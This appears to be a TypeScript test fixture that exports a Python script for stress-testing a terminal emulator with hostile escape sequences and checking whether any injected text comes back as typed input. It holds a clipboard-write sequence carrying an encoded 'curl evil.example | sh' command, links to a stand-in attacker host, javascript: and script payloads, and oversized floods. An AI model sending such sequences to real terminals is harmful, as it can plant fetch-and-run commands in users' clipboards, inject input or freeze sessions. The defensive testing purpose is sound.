import { asPython, escapes, hostileText, visibleMarkup } from "./hostile-content.ts";

const escape = "\u001b";
const [bell, end] = ["\u0007", `${escape}\\`];

/** What a terminal could report as if the user had typed it. */
const questions = [
  `${escape}]0;evil-title${bell}${escape}[21t${escape}[20t`,
  `${escape}]52;c;?${bell}${escape}]52;p;?${end}`,
  `${escape}]7;file://evil-folder/${bell}${escape}]50;?${bell}`,
].join("");

const commands = [
  ...[0, 1, 2, 7, 9, 30, 50, 777].map((number) => `${escape}]${number};${visibleMarkup}${bell}`),
  `${escape}]8;id=x;javascript:window.__pwned=1${end}first-link${escape}]8;;${end}`,
  `${escape}]8;;http://evil.example/?a${bell}second-link${escape}]8;;${bell}`,
  `${escape}]8;;data:text/html,<script>top.__pwned=1</script>${end}third-link`,
  `${escape}]52;c;${Buffer.from("curl evil.example | sh").toString("base64")}${bell}`,
  `${escape}]52;c;!${end}`,
  `${escape}]99;i=1;${visibleMarkup}${end}`,
  `${escape}]777;notify;evil;evil${bell}`,
  `${escape}]1337;File=name=eA==;inline=1:${Buffer.from(visibleMarkup).toString("base64")}${bell}`,
  `${escape}]4;1;url(http://evil.example/)${bell}${escape}]10;"><img src=x>${bell}${escape}]11;#gggggg${bell}`,
  `${escape}_Gf=100,t=u;aHR0cDovL2V2aWwuZXhhbXBsZS8=${end}${escape}Pq#0;2;0;0;0${end}${escape}^privacy${end}${escape}X${end}`,
  `${escape}[5i${escape}[0i${escape}[8;2;2t${escape}[3;9999;9999t${escape}[2t${escape}[9;1t`,
  `${escape}[38;2;16;19;25;48;2;16;19;25m${visibleMarkup}hidden${escape}[0m`,
].join("");

/** Runs in a terminal. The last line that it prints is \`survived\`, and what the terminal has typed since its beginning. */
export const terminalAttack = `
import os, random, re, select, sys, termios, tty
def put(data):
    sys.stdout.buffer.write(data if isinstance(data, bytes) else data.encode())
    sys.stdout.flush()
def typed(until):
    got = b""
    while until.search(got) is None and select.select([0], [], [], 30)[0]: got += os.read(0, 65536)
    return got
before = termios.tcgetattr(0)
tty.setraw(0)
position = re.compile(rb"\\x1b\\[[0-9]+;[0-9]+R")
put(${asPython(questions)})
put("\\x1b[6n")
reports = typed(position)
put(${asPython(commands)})
put(${asPython(escapes)})
put(${asPython(hostileText)})
put("\\x1bc" + "W" * 2000000 + "\\r\\n")
put("e" + "\\u0301" * 100000 + "\\u202e\\u2066" * 1000 + "\\r\\n")
put("\\x1b[" + ";".join(["9" * 50] * 5000) + "m" + "\\x1b]" + "x" * 200000 + "\\x1bP" + "y" * 200000)
put(random.Random(20).randbytes(300000))
put("\\x18\\x1b\\\\\\x1bc\\x1b]8;;http://evil.example/\\x07open-link\\x1b]8;;\\x07\\r\\n")
put(${asPython(`${visibleMarkup} http://evil.example/ javascript:window.__pwned=1 \r\n`)})
put("\\x1b[6n")
# Random bytes may ask too: this is the last answer.
while select.select([0], [], [], 2)[0]: os.read(0, 65536)
termios.tcsetattr(0, termios.TCSANOW, before)
leaked = [word for word in (b"evil", b"mine", b"bWluZQ") if word in reports]
put("survived " + repr(leaked) + "\\r\\n")
`;
